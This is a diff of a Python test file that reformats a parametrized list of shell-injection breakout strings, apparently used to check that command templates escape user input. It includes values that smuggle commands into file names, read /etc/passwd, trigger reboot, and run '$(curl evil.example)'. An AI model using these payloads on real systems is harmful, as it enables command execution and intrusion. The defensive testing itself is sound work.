@@ -22,12 +22,33 @@ PLACES = [
     "cd /tmp && ./run {} &",
 ]
 BREAKOUTS = {
-    0: ["a.png; id", "a.png|sh", "$(id)", "`id`", "a && id", "a || id", "a\nid", "$HOME", "${IFS}", "> /tmp/x", "< /etc/passwd", "a b",
-        "*", "/???/c?t", "{cat,/etc/passwd}", "a & id", "a;id", "'a' 'b'", "a\\\nb;id", "$((1+1))", "a #"],
+    0: [
+        "a.png; id",
+        "a.png|sh",
+        "$(id)",
+        "`id`",
+        "a && id",
+        "a || id",
+        "a\nid",
+        "$HOME",
+        "${IFS}",
+        "> /tmp/x",
+        "< /etc/passwd",
+        "a b",
+        "*",
+        "/???/c?t",
+        "{cat,/etc/passwd}",
+        "a & id",
+        "a;id",
+        "'a' 'b'",
+        "a\\\nb;id",
+        "$((1+1))",
+        "a #",
+    ],
     1: ["'; id; '", "a' 'b", "x'$(id)'", "'|sh #"],
     2: ["$(id)", "`id`", '"; id; "', "${PATH}", "$USER", 'a" "b'],
     3: ["x; reboot", "$(curl evil.example)", "x\nreboot"],
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize(
